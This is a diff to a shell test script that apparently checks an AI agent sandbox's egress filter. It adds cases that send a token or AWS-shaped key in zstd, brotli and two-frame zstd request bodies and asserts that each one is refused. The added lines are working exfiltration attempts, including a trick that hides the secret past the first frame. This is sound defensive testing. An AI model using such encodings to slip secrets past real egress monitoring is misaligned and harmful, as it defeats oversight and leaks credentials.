@@ -2,6 +2,7 @@
 # exfil.sh - the agent tries to send a secret out through egress (token slot value, AWS-shaped key) in every place and form.
 . "$(dirname "$0")/../sh/lib.sh"
 . "$(dirname "$0")/lib_attack.inc"
+need_tools zstd brotli
 attack_egress_setup
 
 AWS=$(aws_key)
@@ -83,6 +84,16 @@ for who in token aws; do
 	python3 -c 'import sys,zlib; c=zlib.compressobj(6,zlib.DEFLATED,-15); sys.stdout.buffer.write(c.compress(("{\"key\": \"%s\"}" % sys.argv[1]).encode())+c.flush())' "$SEC" >"$T/r.z"
 	acurl -H 'Content-Encoding: deflate' --data-binary @"$T/r.z" "$U/rdf-$who" >"$T/code"
 	refused "$who inside a raw deflate body" "/rdf-$who" $rule ""
+	printf '{"key": "%s"}' "$SEC" | zstd -q -c >"$T/z.zst"
+	acurl -H 'Content-Encoding: zstd' --data-binary @"$T/z.zst" "$U/zst-$who" >"$T/code"
+	refused "$who inside a zstd body" "/zst-$who" $rule ""
+	printf '{"key": "%s"}' "$SEC" | brotli -c >"$T/b.br"
+	acurl -H 'Content-Encoding: br' --data-binary @"$T/b.br" "$U/br-$who" >"$T/code"
+	refused "$who inside a br body" "/br-$who" $rule ""
+	# the secret in the second of two zstd frames (a decoder that stops at the first would miss it)
+	{ printf 'harmless ' | zstd -q -c; printf '{"key": "%s"}' "$SEC" | zstd -q -c; } >"$T/z2.zst"
+	acurl -H 'Content-Encoding: zstd' --data-binary @"$T/z2.zst" "$U/zst2-$who" >"$T/code"
+	refused "$who in the second frame of a zstd body" "/zst2-$who" $rule ""
 done
 
 # A chunk extension ("5;k=SECRET") is framing, not body: whatever egress forwards of it must be scanned too.
@@ -110,7 +121,7 @@ PY
 done
 
 # The compressed bodies themselves never reached the upstream (their bytes are binary: compare as hex).
-python3 - "$RAW_PLAIN" "$T/g.gz" "$T/d.z" "$T/r.z" <<'PY' && ok "no compressed secret body reached the upstream" || fail "compressed bodies" "a compressed body arrived"
+python3 - "$RAW_PLAIN" "$T/g.gz" "$T/d.z" "$T/r.z" "$T/z.zst" "$T/b.br" "$T/z2.zst" <<'PY' && ok "no compressed secret body reached the upstream" || fail "compressed bodies" "a compressed body arrived"
 import sys
 raw = open(sys.argv[1], "rb").read()
 sys.exit(1 if any(open(f, "rb").read()[-12:] in raw for f in sys.argv[2:]) else 0)
